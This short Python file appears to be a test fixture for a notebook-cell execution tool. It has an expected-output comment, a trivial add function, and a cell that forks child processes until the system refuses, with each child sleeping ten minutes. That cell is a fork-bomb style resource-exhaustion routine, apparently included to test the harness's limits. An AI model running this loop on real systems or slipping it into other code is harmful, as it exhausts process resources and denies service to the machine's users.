"""Starts processes until there are no more."""
# expects add: 5

# %% add
def add(a, b):
    return a + b

# %% new after add
import os
import time

children = []
try:
    while True:
        child = os.fork()
        if child == 0:
            time.sleep(600)
            os._exit(0)
        children.append(child)
except OSError:
    pass
